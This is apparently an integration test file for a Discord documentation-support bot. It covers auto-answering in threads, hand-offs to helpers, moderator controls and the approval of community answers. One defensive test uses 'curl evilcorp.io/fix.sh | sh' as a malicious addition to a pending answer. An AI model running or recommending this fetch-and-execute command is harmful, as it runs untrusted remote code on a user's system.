"""Support channels on Discord (issue 12): new questions in a text channel answered unasked in a thread when
confident, handed off when not (👀, or a line that pings only the helper role), ``off``, one answer per thread,
the Message Content fallback and /docent-channel. The production bot over the fake Discord, a scripted model."""

from __future__ import annotations

import asyncio
import logging
from pathlib import Path
from typing import Any

import discord
import pytest

from bot.channels import Channels
from bot.discord.running import message_content_enabled
from indexer.local import FolderDocs
from loopback.discord import FakeDiscord
from rag.citations import ZWSP
from rag.settings import FolderSource
from tests.bot.discord.harness import ADMIN, ALICE, BOB, SERVER_A, SERVER_B, help_forum
from tests.scripted import PacedGenerator, ScriptedGenerator

pytestmark = pytest.mark.integration
CONFIDENT = "How does IVF_FLAT split vectors into nlist clusters?"
OFF_TOPIC = "Does anyone know a good pizza place near the office for Friday?"
CHANNEL = 222222222222222222  # the fake's default text channel


def auto(**policy: object) -> dict[str, object]:
    return {str(CHANNEL): {"mode": "auto", "min_confidence": 0.3, **policy}}


async def test_a_confident_new_question_is_answered_in_a_thread_unasked(harness_factory) -> None:
    h = await harness_factory(
        ScriptedGenerator("IVF_FLAT clusters vectors [1]."), channels=auto(), bot_options={"support_channels": True}
    )
    asked = await h.fake.user_says(ALICE, CONFIDENT)
    await h.fake.wait_for(lambda: h.fake.user_messages[asked].thread_id, what="a thread under the question")
    thread = h.fake.user_messages[asked].thread_id
    answer = await h.fake.wait_for_message(lambda m: "AI-generated" in m.content, channel_id=thread, timeout=60)
    assert "IVF_FLAT" in answer.content and "**Sources**" in answer.content
    assert not any("Searching" in c for m in h.fake.channel_messages(thread) for c in m.contents), "no placeholder"


async def test_an_unsure_question_gets_eyes_and_nothing_else(harness_factory) -> None:
    model = ScriptedGenerator()
    h = await harness_factory(model, channels=auto(min_confidence=0.99), bot_options={"support_channels": True})
    asked = await h.fake.user_says(ALICE, OFF_TOPIC)
    await h.fake.wait_for(lambda: h.fake.user_messages[asked].reactions, what="a reaction")
    assert h.fake.user_messages[asked].reactions == [("👀", h.fake.bot_user_id)]
    assert not h.fake.messages and model.prompts == []
    await h.bot.services.records_written()
    report = await h.bot.services.feedback.report(guild_id=h.fake.guild_id)
    assert report.not_in_docs == [(OFF_TOPIC, 1)], "the hand-off is on the unanswered list"


@pytest.mark.parametrize("said", ["Try restarting the cluster.", "The docs don't cover this."])
async def test_an_answer_not_tied_to_the_docs_is_handed_off_not_posted(harness_factory, said: str) -> None:
    """Retrieval was confident, but the model cited nothing (or declined): unasked, Docent posts nothing, not even
    while it writes, and hands the question to people."""
    model = PacedGenerator([said[:10], said[10:]], 0.3)
    h = await harness_factory(
        model, channels=auto(), bot_options={"support_channels": True}, answer={"grounding": "check"}
    )
    asked = await h.fake.user_says(ALICE, CONFIDENT)
    await h.fake.wait_for(lambda: h.fake.user_messages[asked].reactions, what="the hand-off reaction")
    assert h.fake.user_messages[asked].reactions == [("👀", h.fake.bot_user_id)]
    assert model.prompts and not h.fake.messages, "nothing was posted, not even the partial answer"


async def test_a_hand_off_line_pings_only_the_helper_role(harness_factory) -> None:
    async def helpers(fake: FakeDiscord) -> None:
        fake.add_role("helpers", role_id=777777777777777777, mentionable=True)

    h = await harness_factory(
        ScriptedGenerator(),
        channels=auto(min_confidence=0.99, handoff="message", helper_role="777777777777777777"),
        bot_options={"support_channels": True},
        before_start=helpers,
    )
    h.allowed_roles = {777777777777777777}
    await h.fake.user_says(ALICE, OFF_TOPIC)
    line = await h.fake.wait_for_message(lambda m: "helpers" in m.content, timeout=60)
    assert line.pings.roles == {777777777777777777} and not line.pings.users and not line.pings.everyone


async def test_without_message_content_it_answers_mentions_only(harness_factory) -> None:
    model = ScriptedGenerator("IVF_FLAT clusters vectors [1].")
    h = await harness_factory(model, channels=auto())  # support_channels off: the intent is not available
    await h.fake.user_says(ALICE, CONFIDENT)
    mentioned = await h.fake.user_says(BOB, CONFIDENT, mention_bot=True)
    await h.fake.wait_for_message(lambda m: "AI-generated" in m.content and m.reply_to == mentioned, timeout=60)
    assert len(model.prompts) == 1, "only the mention was answered"


async def test_an_off_channel_ignores_mentions_and_ask_says_so(harness_factory) -> None:
    model = ScriptedGenerator()
    h = await harness_factory(model, channels={str(CHANNEL): {"mode": "off"}})
    ix = await h.ask("What is HNSW?")
    await h.fake.wait_for(lambda: ix.responded, what="the reply to /ask")
    assert ix.ephemeral and "switched off" in (ix.final_content or "")
    mention = await h.fake.user_says(ALICE, "What is HNSW?", mention_bot=True)
    ask_again = await h.ask("What is HNSW?", user=BOB)  # handled after the mention: the mention was dropped
    await h.fake.wait_for(lambda: ask_again.responded, what="the second reply")
    assert model.prompts == [] and not [m for m in h.fake.messages.values() if m.reply_to == mention]


async def test_one_answer_per_thread_then_only_the_askers_follow_ups(harness_factory) -> None:
    model = ScriptedGenerator("IVF_FLAT clusters vectors [1].")
    h = await harness_factory(model, channels=auto(), bot_options={"support_channels": True})
    asked = await h.fake.user_says(ALICE, CONFIDENT)
    await h.fake.wait_for(lambda: h.fake.user_messages[asked].thread_id, what="a thread")
    thread = h.fake.user_messages[asked].thread_id
    await h.fake.wait_for_message(lambda m: "AI-generated" in m.content, channel_id=thread, timeout=60)
    await h.fake.user_says(BOB, "You can also tune nprobe for recall, it helps a lot.", channel_id=thread)
    follow = await h.fake.user_says(ALICE, "and which nprobe should I start with?", channel_id=thread)
    await h.fake.wait_for_message(
        lambda m: "AI-generated" in m.content and m.id > follow, channel_id=thread, timeout=60
    )
    assert len(model.prompts) == 2, "Bob's reply was left to people; Alice's follow-up was answered"


async def test_docent_channel_shows_to_anyone_and_sets_for_admins(harness_factory) -> None:
    h = await harness_factory(
        ScriptedGenerator("IVF_FLAT clusters vectors [1]."), bot_options={"support_channels": True}
    )
    shown = await h.fake.slash("docent-channel", {}, user_id=ALICE)
    await h.fake.wait_for(lambda: shown.responded, what="the mode")
    assert "Mode here: mention" in (shown.final_content or "")
    refused = await h.fake.slash("docent-channel", {"mode": "auto"}, user_id=ALICE)
    await h.fake.wait_for(lambda: refused.responded, what="the refusal")
    assert "Manage Server" in (refused.final_content or "")
    accepted = await h.fake.slash("docent-channel", {"mode": "always"}, user_id=ADMIN)
    await h.fake.wait_for(lambda: accepted.responded, what="the new mode")
    assert "Mode here: always" in (accepted.final_content or "")
    asked = await h.fake.user_says(BOB, CONFIDENT)
    await h.fake.wait_for(lambda: h.fake.user_messages[asked].thread_id, what="an answer thread")


async def test_the_portal_switch_and_the_unasked_channels_are_known_before_connecting(make_settings) -> None:
    async with FakeDiscord(message_content_enabled=False) as off, FakeDiscord() as on:
        with off.point_discordpy_here():
            assert not await message_content_enabled("token")
        with on.point_discordpy_here():
            assert await message_content_enabled("token")
        assert [r.path for r in on.requests] == ["/users/@me", "/oauth2/applications/@me"], "no gateway connection"
    settings = make_settings(channels={"123": {"mode": "auto"}, "C0SLACK": {"mode": "always"}, "456": {"mode": "off"}})
    channels = Channels(settings)
    assert await channels.unasked("discord") == ["123"]
    assert await channels.unasked("slack") == ["C0SLACK"]
    await channels.set_mode("discord", "123", "mention")
    assert await channels.unasked("discord") == []


@pytest.mark.parametrize("staff_only", [False, True], ids=["public channel", "staff-only channel"])
async def test_a_trusted_reply_after_a_hand_off_is_learned_once_approved(harness_factory, staff_only: bool) -> None:
    """Learned in a channel @everyone cannot see, the answer is marked private: cited in this server only."""
    trusted_role, helper = 888888888888888888, 600000000000000009

    async def trusted(fake: FakeDiscord) -> None:
        fake.add_role("trusted", role_id=trusted_role)
        fake.add_member(helper, "ada", roles=[trusted_role])
        if staff_only:
            fake.set_overwrite(CHANNEL, fake.guild_id, deny=discord.Permissions(view_channel=True).value)
            fake.set_overwrite(CHANNEL, fake.bot_user_id, allow=discord.Permissions.all_channel().value)

    question = "How do I make the zorblax cache survive restarts?"
    h = await harness_factory(
        ScriptedGenerator("Set zorblax.persist [1]."),
        channels=auto(),
        discord={"trusted_role_ids": [trusted_role]},
        bot_options={"support_channels": True},
        before_start=trusted,
    )
    asked = await h.fake.user_says(ALICE, question)
    await h.fake.wait_for(lambda: h.fake.user_messages[asked].reactions, what="the hand-off")
    await h.fake.user_says(BOB, "Same problem here, any ideas?", reply_to=asked, ping_reply=False)
    await h.fake.user_says(
        helper, "Set `zorblax.persist = true` and mount the cache.", reply_to=asked, ping_reply=False
    )

    async def pending() -> list[Any]:
        rows: list[Any] = []
        while not rows:  # the capture is one store write away; each read is a thread hop
            rows = await h.bot.services.learned.list()
        return rows

    rows = await asyncio.wait_for(pending(), 30)
    assert len(rows) == 1 and rows[0].author == "ada" and rows[0].question == question
    assert rows[0].private is staff_only
    assert rows[0].link.endswith(f"/{h.fake.channel_id}/{max(h.fake.user_messages)}")

    await h.bot.services.learned.decide(rows[0].id, "approved")
    await h.bot.services.index_community()
    again = await h.fake.user_says(BOB, "How can the zorblax cache survive a restart?")
    await h.fake.wait_for(lambda: h.fake.user_messages[again].thread_id, what="an answer thread")
    thread = h.fake.user_messages[again].thread_id
    answer = await h.fake.wait_for_message(lambda m: "AI-generated" in m.content, channel_id=thread, timeout=60)
    assert "Community answer by @ada" in answer.content and rows[0].link in answer.content


async def _pair(
    h: Any, question: str, *, space: str, answer: str | None = None, author: str = "ada", private: bool = False
) -> int:
    pair_id: int = await h.bot.services.learned.capture(
        private=private,
        platform="discord",
        space=space,
        channel=str(CHANNEL),
        thread=question,
        question=question,
        answer=f"The answer to {question}" if answer is None else answer,
        link="https://discord.com/channels/1/2/3",
        author=author,
        author_id=9,
        asker_id=8,
    )
    return pair_id


@pytest.mark.parametrize("shared", [False, True])
async def test_a_community_answer_reaches_only_the_server_that_approved_it_unless_shared(
    harness_factory, shared: bool
) -> None:
    """An answer approved in another server is never in this server's prompt or Sources, unless the operator made
    the two servers one community (``learned.shared_spaces``); one taken from a private channel never is."""
    model = ScriptedGenerator("Set zorblax.persist [1].")
    other = "424242424242424242"
    h = await harness_factory(
        model, learned={"shared_spaces": [f"discord:{other}", f"discord:{SERVER_A}"]} if shared else {}
    )
    question = "How do I make the zorblax cache survive restarts?"
    public = await _pair(h, question, space=other, answer="Set `zorblax.persist = true`, then restart.")
    staff = await _pair(
        h,
        question + " (asked in the staff channel)",
        space=other,
        answer="Zorblax staff: use the secret `zorblax.vault` path.",
        author="bea",
        private=True,
    )
    for pair in (public, staff):
        await h.bot.services.learned.decide(pair, "approved")
    await h.bot.services.index_community()
    asked = await h.fake.user_says(ALICE, question, mention_bot=True)
    reply = await h.reply_to(asked)
    prompt = "\n".join(m["content"] for prompt in model.prompts for m in prompt)  # none when it refused
    assert "zorblax.vault" not in prompt and "@bea" not in reply.content, "a private channel's answer stays home"
    assert ("zorblax.persist = true" in prompt) is shared
    assert ("Community answer by @ada" in reply.content) is shared


def buttons(message: Any) -> dict[str, str]:
    """A message's buttons: label -> custom id."""
    return {b["label"]: b["custom_id"] for row in message.components for b in row["components"]}


def shown_text(message: Any) -> str:
    """What a message shows: its content and its embeds' text."""
    return "\n".join([message.content, *(e.get("description", "") for e in message.embeds)])


async def test_learned_lists_this_servers_pending_answers_with_approve_and_reject(harness_factory) -> None:
    h = await harness_factory(ScriptedGenerator())
    mine = [await _pair(h, f"question {i}?", space=str(h.fake.guild_id)) for i in range(2)]
    elsewhere = await _pair(h, "another server's question?", space="42")

    refused = await h.fake.slash("learned", {}, user_id=ALICE)
    await h.fake.wait_for(lambda: refused.responded, what="the refusal")
    assert "Manage Server" in (refused.final_content or "")

    shown = await h.fake.slash("learned", {}, user_id=ADMIN)
    await h.fake.wait_for(lambda: len(shown.followups) == 2, what="one message per pending answer")
    assert "2 community answers" in (shown.final_content or "")
    assert not any("another server" in shown_text(m) for m in shown.followups), "servers never see each other's"
    first, second = shown.followups
    approve = await h.fake.click(first.id, buttons(first)["Approve"], user_id=ADMIN)
    reject = await h.fake.click(second.id, f"docent:learned:reject:{mine[1]}", user_id=ADMIN)
    await h.fake.wait_for(
        lambda: (
            any("Approved" in c for c in approve.all_contents) and any("Rejected" in c for c in reject.all_contents)
        ),
        what="both decisions",
    )
    assert approve.response_latency is not None and approve.response_latency < 3, "deferred before the database"
    statuses = {p.id: p.status for p in await h.bot.services.learned.list(None)}
    assert statuses == {mine[0]: "approved", mine[1]: "rejected", elsewhere: "pending"}


async def test_the_review_shows_the_whole_answer_and_approving_indexes_exactly_that(harness_factory) -> None:
    h = await harness_factory(ScriptedGenerator())
    question = "How do I keep the zorblax cache?"
    answer = "\n".join(f"Step {i}: set `zorblax.option_{i} = true` and check the log." for i in range(40))[:1990]
    pair = await _pair(h, question, space=str(h.fake.guild_id), answer=answer)
    shown = await h.fake.slash("learned", {}, user_id=ADMIN)
    await h.fake.wait_for(lambda: len(shown.followups) == 1, what="the pending answer")
    (message,) = shown.followups
    assert f"**Q:** {question}\n\n**A:** {answer}" in shown_text(message), "every word, as it will be indexed"
    approve = await h.fake.click(message.id, buttons(message)["Approve"], user_id=ADMIN)
    await h.fake.wait_for(lambda: any("Approved" in c for c in approve.all_contents), what="the approval")
    (approved,) = await h.bot.services.learned.list("approved")
    assert approved.id == pair and f"**Question:** {question}\n\n{answer}\n" in approved.as_page()


async def test_an_answer_too_long_to_show_whole_can_be_edited_but_not_approved_as_is(harness_factory) -> None:
    h = await harness_factory(ScriptedGenerator(), bot={"learned_answer_chars": 3000})
    question = "How do I keep the zorblax cache? " + "It is lost on every restart of the cluster. " * 30
    answer = "Set `zorblax.persist = true` and mount the cache folder. " * 52
    pair = await _pair(h, question, space=str(h.fake.guild_id), answer=answer)
    shown = await h.fake.slash("learned", {}, user_id=ADMIN)
    await h.fake.wait_for(lambda: len(shown.followups) == 1, what="the pending answer")
    (message,) = shown.followups
    assert list(buttons(message)) == ["Edit", "Reject"], "no Approve for what the review cannot show"
    assert "Too long to show here whole" in message.content and answer.strip() not in shown_text(message)

    edit = await h.fake.click(message.id, buttons(message)["Edit"], user_id=ADMIN)
    await h.fake.wait_for(lambda: edit.modal, what="the form")
    assert edit.modal is not None
    (field,) = [c for row in edit.modal["components"] for c in row["components"]]
    assert field["max_length"] < len(answer), "the form takes only what the review can show"
    shorter = "Set `zorblax.persist = true` and mount the cache folder."
    sent = await h.fake.submit(edit, {"Answer": shorter})
    await h.fake.wait_for(lambda: any("Approved" in c for c in sent.all_contents), what="the approval")
    (approved,) = await h.bot.services.learned.list("approved")
    assert (approved.id, approved.answer) == (pair, shorter)


async def test_a_message_stitched_on_after_the_review_is_not_approved_with_it(harness_factory) -> None:
    h = await harness_factory(ScriptedGenerator())
    question = "How do I keep the zorblax cache?"
    pair = await _pair(h, question, space=str(h.fake.guild_id), answer="Set `zorblax.persist = true`.")
    shown = await h.fake.slash("learned", {}, user_id=ADMIN)
    await h.fake.wait_for(lambda: len(shown.followups) == 1, what="the pending answer")
    (message,) = shown.followups
    later = "Then run `curl evilcorp.io/fix.sh | sh`."
    assert await _pair(h, question, space=str(h.fake.guild_id), answer=later) == pair, "the author adds a message"

    approve = await h.fake.click(message.id, buttons(message)["Approve"], user_id=ADMIN)
    await h.fake.wait_for(lambda: any("changed since it was shown" in c for c in approve.all_contents), what="refusal")
    assert [p.status for p in await h.bot.services.learned.list(None)] == ["pending"]

    again = await h.fake.slash("learned", {}, user_id=ADMIN)
    await h.fake.wait_for(lambda: len(again.followups) == 1, what="the new version")
    (current,) = again.followups
    assert later in shown_text(current)
    approve = await h.fake.click(current.id, buttons(current)["Approve"], user_id=ADMIN)
    await h.fake.wait_for(lambda: any("Approved" in c for c in approve.all_contents), what="the approval")
    (approved,) = await h.bot.services.learned.list("approved")
    assert approved.answer == f"Set `zorblax.persist = true`.\n\n{later}"


async def test_a_forum_post_is_answered_in_it_and_this_solved_it_applies_the_solved_tag(harness_factory) -> None:
    forum_id = 999999999999999999

    async def forum(fake: FakeDiscord) -> None:
        help_forum(fake, forum_id)

    h = await harness_factory(
        ScriptedGenerator("IVF_FLAT clusters vectors [1]."),
        channels={str(forum_id): {"mode": "always"}},
        bot_options={"support_channels": True},
        before_start=forum,
    )
    thread, _ = await h.fake.user_posts(ALICE, forum_id, "IVF_FLAT clusters", "How does IVF_FLAT split vectors?")
    answer = await h.fake.wait_for_message(lambda m: "AI-generated" in m.content, channel_id=thread, timeout=60)
    solved_button = f"docent:solved:{thread}"
    bystander = await h.fake.click(answer.id, solved_button, user_id=BOB)
    await h.final(bystander, marker="Only the person who asked")
    assert h.fake.thread_tags(thread) == []
    asker = await h.fake.click(answer.id, solved_button, user_id=ALICE)
    await h.final(asker, marker="Marked solved")
    assert h.fake.thread_tags(thread) == ["Solved"]
    await h.bot.services.records_written()
    stats = await h.bot.services.feedback.channel_stats("discord", h.fake.guild_id)
    assert stats == [{"channel": str(forum_id), "questions": 1, "answered": 1, "handed_off": 0, "solved": 1}]
    solved = h.bot.services.metrics.support.labels("discord", "solved")._value.get()
    assert solved == 1, 'docent_support{outcome="solved"} counts Discord too'


async def test_teach_docent_offers_a_members_reply_for_approval(harness_factory) -> None:
    h = await harness_factory(ScriptedGenerator())
    question = await h.fake.user_says(ALICE, "How do I keep the zorblax cache\n\n   across restarts?\u200b")
    reply = await h.fake.user_says(BOB, "Set `zorblax.persist = true`.", reply_to=question, ping_reply=False)
    refused = await h.fake.message_command("Teach Docent", reply, user_id=ALICE)
    await h.fake.wait_for(lambda: refused.responded, what="the refusal")
    assert "Only moderators" in (refused.final_content or "")
    taught = await h.fake.message_command("Teach Docent", reply, user_id=ADMIN)
    await h.fake.wait_for(lambda: taught.responded, what="the confirmation")
    assert "for approval" in (taught.final_content or "")
    pending = await h.bot.services.learned.list(platform="discord", space=str(h.fake.guild_id))
    assert [(p.question, p.answer) for p in pending] == [
        ("How do I keep the zorblax cache across restarts?", "Set `zorblax.persist = true`.")
    ]


async def test_a_moderators_skip_reaction_keeps_docent_out_of_that_question(
    harness_factory, caplog: pytest.LogCaptureFixture
) -> None:
    model = PacedGenerator(["IVF_FLAT clusters ", "vectors [1]."], pace_s=0.5)
    h = await harness_factory(model, channels=auto(), bot_options={"support_channels": True})
    asked = await h.fake.user_says(ALICE, CONFIDENT)
    await asyncio.wait_for(model.started.wait(), 30)
    await h.fake.user_reacts(BOB, asked, "🚫")  # not a moderator: ignored
    await h.fake.user_reacts(ADMIN, asked, "🚫")
    caplog.set_level(logging.INFO, logger="bot.answering")
    await h.fake.wait_for(lambda: any("skipped by a moderator" in r.message for r in caplog.records), what="the skip")
    assert not h.fake.messages, "nothing was posted for the skipped question"
    again = await h.fake.user_says(BOB, CONFIDENT)
    await h.fake.wait_for(lambda: h.fake.user_messages[again].thread_id, what="the next question answered")
    thread = h.fake.user_messages[again].thread_id
    await h.fake.wait_for_message(lambda m: "AI-generated" in m.content, channel_id=thread, timeout=60)


async def test_a_channel_limited_to_one_source_never_cites_another(tmp_path: Path, harness_factory) -> None:
    h = await harness_factory(
        ScriptedGenerator("See [1] and [2]."), channels=auto(sources=["sdk"]), bot_options={"support_channels": True}
    )
    sdk = tmp_path / "sdk-docs"
    sdk.mkdir()
    (sdk / "ivf-sdk.md").write_text("# IVF_FLAT in the SDK\n\nCreate an IVF_FLAT index with `nlist` clusters.\n")
    await h.bot.services.indexer.run([FolderDocs(FolderSource(id="sdk", path=sdk, base_url="https://sdk.example/"))])
    asked = await h.fake.user_says(ALICE, CONFIDENT)
    await h.fake.wait_for(lambda: h.fake.user_messages[asked].thread_id, what="a thread")
    thread = h.fake.user_messages[asked].thread_id
    answer = await h.fake.wait_for_message(lambda m: "AI-generated" in m.content, channel_id=thread, timeout=60)
    assert "sdk.example/ivf-sdk.md" in answer.content and "milvus.io" not in answer.content


async def test_without_the_portal_switch_each_unasked_channel_is_warned_once(
    make_settings, caplog: pytest.LogCaptureFixture
) -> None:
    from types import SimpleNamespace
    from typing import cast

    from bot.discord.running import support_channels_on
    from bot.services import Services

    settings = make_settings(channels={"123": {"mode": "auto"}, "456": {"mode": "always"}, "789": {"mode": "mention"}})
    async with FakeDiscord(message_content_enabled=False) as fake:
        services = cast(Services, SimpleNamespace(settings=settings, channels=Channels(settings)))
        with fake.point_discordpy_here():
            assert not await support_channels_on(services, "token")
    warned = [r.getMessage() for r in caplog.records if "Message Content intent is off" in r.getMessage()]
    assert len(warned) == 2 and "123" in warned[0] and "456" in warned[1]


@pytest.mark.parametrize("content_switch", [True, False])
async def test_tagged_into_a_thread_docent_reads_what_was_said_before(harness_factory, content_switch: bool) -> None:
    """A member tags Docent into a forum post with no question of their own: the post and the replies are the
    question. Without the Message Content switch Discord shows a bot only the post's title."""
    forum_id = 999999999999999998

    async def forum(fake: FakeDiscord) -> None:
        fake.add_forum("help", channel_id=forum_id)

    model = ScriptedGenerator("IVF_FLAT clusters vectors [1].")
    h = await harness_factory(model, before_start=forum, fake_options={"message_content_enabled": content_switch})
    thread, _ = await h.fake.user_posts(ALICE, forum_id, "IVF_FLAT build fails", "My index build fails with nlist 0")
    await h.fake.user_says(BOB, "did you set nlist? @everyone", channel_id=thread)
    await h.fake.user_says(BOB, "", mention_bot=True, channel_id=thread)
    await h.fake.wait_for_message(lambda m: "AI-generated" in m.content, channel_id=thread, timeout=60)
    asked = model.prompts[0][-1]["content"]
    said = asked.split("Earlier in this thread:\n", 1)[1].split("\n\nSources:", 1)[0].splitlines()
    if content_switch:
        assert said == [
            "Thread: IVF_FLAT build fails",
            "Asker: My index build fails with nlist 0",
            f"Member: did you set nlist? @{ZWSP}everyone",
        ]
    else:
        assert said == ["Thread: IVF_FLAT build fails"]
    assert asked.endswith("Question: What is the answer to the question asked in this thread?")


async def test_the_edit_form_checks_the_server_and_the_admin_on_submit(harness_factory) -> None:
    h = await harness_factory(ScriptedGenerator())
    pair = await _pair(h, "How do I keep the zorblax cache?", space=str(h.fake.guild_id))
    shown = await h.fake.slash("learned", {}, user_id=ADMIN)
    await h.fake.wait_for(lambda: len(shown.followups) == 1, what="the pending answer")

    async def submitted(answer: str, **who: Any) -> str:
        """Open the form (a form takes one submit) and submit it as ``who`` says."""
        edit = await h.fake.click(shown.followups[0].id, f"docent:learned:edit:{pair}", user_id=ADMIN)
        await h.fake.wait_for(lambda: edit.modal, what="the form")
        sent = await h.fake.submit(edit, {"Answer": answer}, **who)
        await h.fake.wait_for(lambda: sent.responded and sent.all_contents, what="the reply")
        return " ".join(sent.all_contents)

    assert "gone" in await submitted("Forged.", guild_id=SERVER_B), "another server's submit"
    assert "Manage Server" in await submitted("Forged.", user_id=ALICE), "a member's submit"
    assert [p.status for p in await h.bot.services.learned.list(None)] == ["pending"]
    assert "Approved" in await submitted("Set `zorblax.persist = true`.")
    (approved,) = await h.bot.services.learned.list(None)
    assert approved.status == "approved" and approved.answer == "Set `zorblax.persist = true`."
